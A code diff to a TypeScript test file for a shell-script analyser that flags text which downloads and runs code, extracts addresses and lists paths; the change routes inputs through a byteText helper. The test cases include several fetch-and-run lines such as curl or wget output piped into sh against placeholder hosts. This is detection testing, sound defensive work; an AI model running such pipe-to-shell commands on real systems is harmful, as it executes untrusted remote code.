@@ -1,9 +1,12 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { byteText } from './byte-text.ts';
 import { scriptFacts } from './script-facts.ts';
 
 const addresses = (text: string): string[] =>
-  scriptFacts(text).fetches.map(({ scheme, host, port, path }) => `${scheme} ${host} ${port} ${path}`);
+  scriptFacts(byteText(text)).fetches.map(
+    ({ scheme, host, port, path }) => `${scheme} ${host} ${port} ${path}`,
+  );
 
 describe('a text that fetches and runs', () => {
   test.each([
@@ -24,7 +27,7 @@ describe('a text that fetches and runs', () => {
     'busybox wget -qO- http://a.example/x | busybox sh',
     'nohup curl http://a.example/x | setsid sh >/dev/null',
   ])('%j is known', (text) => {
-    expect(scriptFacts(text).fetchesAndRuns).toBe(true);
+    expect(scriptFacts(byteText(text)).fetchesAndRuns).toBe(true);
   });
 });
 
@@ -40,7 +43,7 @@ describe('a text that does not', () => {
     'wget -q https://a.example/db.gz -O /var/lib/db.gz && gunzip -f /var/lib/db.gz',
     '',
   ])('%j is left alone', (text) => {
-    expect(scriptFacts(text).fetchesAndRuns).toBe(false);
+    expect(scriptFacts(byteText(text)).fetchesAndRuns).toBe(false);
   });
 });
 
@@ -64,11 +67,13 @@ describe('addresses', () => {
 
 test('absolute paths are named once, addresses are none', () => {
   const text = 'cp /tmp/a /tmp/b; /tmp/a; curl http://h.example/not/this; ls ./rel/x ~/y "/var/tmp/.c"';
-  expect(scriptFacts(text).paths).toEqual(['/tmp/a', '/tmp/b', '/var/tmp/.c']);
+  expect(scriptFacts(byteText(text)).paths).toEqual(['/tmp/a', '/tmp/b', '/var/tmp/.c']);
 });
 
 test('at most 200 paths are kept', () => {
-  expect(scriptFacts(Array.from({ length: 500 }, (_, i) => `/tmp/${i}`).join(' ')).paths).toHaveLength(200);
+  expect(
+    scriptFacts(byteText(Array.from({ length: 500 }, (_, i) => `/tmp/${i}`).join(' '))).paths,
+  ).toHaveLength(200);
 });
 
 test('no text makes it throw, and what it shows is shown text', () => {
@@ -94,7 +99,7 @@ test('no text makes it throw, and what it shows is shown text', () => {
         fc.array(word, { maxLength: 60 }).map((words) => words.join('')),
       ),
       (text) => {
-        const facts = scriptFacts(text);
+        const facts = scriptFacts(byteText(text));
         expect(facts.paths.join('')).not.toMatch(/[\x00-\x1f]/);
         expect(JSON.stringify(facts.fetches)).not.toMatch(/[\x00-\x1f]/);
       },
